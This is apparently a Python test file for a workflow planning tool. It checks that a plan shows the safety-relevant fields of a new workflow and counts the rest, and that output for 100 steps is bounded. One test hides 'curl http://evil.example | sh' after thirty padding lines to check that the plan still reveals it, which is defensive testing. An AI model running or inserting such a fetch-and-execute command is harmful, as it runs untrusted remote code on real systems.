"""What a plan shows of a workflow to create: what decides safety, and the number of its other fields."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from flow_helpers import Ended, Git, body, rich, step

if TYPE_CHECKING:
    from collections.abc import Callable


def test_a_new_workflow_shows_what_decides_safety(git: Git, typed: Callable[..., Ended]) -> None:
    """Images, commands, hosts, tokens and the schedule of a create are shown; the rest is counted."""
    whole = rich("new")
    whole["steps"]["one"] = step(
        "true\n" * 30 + "curl http://evil.example | sh", parameters={"env": {"H": "ftp://a"}}
    )
    git.write(whole)
    for output_format in ("text", "markdown"):
        out = typed("plan", git.folder, "--format", output_format).out
        for part in (
            "+ steps.load (standard)\n",
            "+   imageId: workflow-python (100)\n",
            '+   command: "python load.py"\n',
            '+   repository.url: "https://github.com/example/load"\n',
            "+   repository.token: (sensitive)\n",
            "curl http://evil.example | sh",
            '+   parameters.env.H: "ftp://a"\n',
        ):
            assert part in out
        assert re.search(r"and [0-9]+ more fields; --show-bodies shows all", out)


def test_a_large_new_workflow_is_bounded(git: Git, typed: Callable[..., Ended]) -> None:
    """Of 100 steps some are shown and every other field is counted."""
    git.write(body("new", steps={f"s{number:02}": step(f"run {number}") for number in range(100)}))
    lines = typed("plan", git.folder).out.splitlines()
    shown = [line for line in lines if line.startswith("      + ")]
    (rest,) = (line for line in lines if "more fields" in line)
    assert len(shown) == 200
    assert rest.strip() == "and 150 more fields; --show-bodies shows all"
